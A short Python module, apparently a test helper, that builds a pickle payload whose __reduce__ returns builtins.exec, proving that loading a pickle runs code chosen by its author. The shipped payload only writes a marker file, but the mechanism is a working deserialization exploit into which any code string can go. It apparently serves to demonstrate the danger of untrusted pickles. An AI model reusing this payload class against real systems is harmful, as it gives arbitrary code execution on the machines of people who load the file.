"""A harmless pickle payload: proof that loading a pickle runs code chosen by whoever wrote it.

The payload only writes a short text file at a path the caller chooses. A real attacker would
put ``os.system("...")`` in the same place; the mechanism (``__reduce__`` returning a callable
and its arguments, which ``pickle.load`` calls) is exactly the same.
"""

from __future__ import annotations

import builtins
import pickle
from pathlib import Path


class _Payload:
    """Pickles as "call ``exec(code)``": unpickling it runs ``code``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (builtins.exec, (self.code,))


def harmless_pickle_payload(marker: Path, message: str = "código ejecutado al cargar") -> bytes:
    """Return pickle bytes that, when loaded, write ``message`` to the file ``marker``.

    Loading them (``pickle.loads``, ``joblib.load`` of a file with these bytes) creates the file
    and returns ``None``: the side effect happens before any object reaches the caller.

    Raises:
        TypeError: if ``marker`` is not a ``pathlib.Path`` or ``message`` is not a ``str``.
    """
    if not isinstance(marker, Path):
        raise TypeError(f"marker debe ser un pathlib.Path, no {type(marker).__name__}.")
    if not isinstance(message, str):
        raise TypeError(f"message debe ser un str, no {type(message).__name__}.")
    code = f"import pathlib; pathlib.Path({str(marker.resolve())!r}).write_text({message!r})"
    return pickle.dumps(_Payload(code))
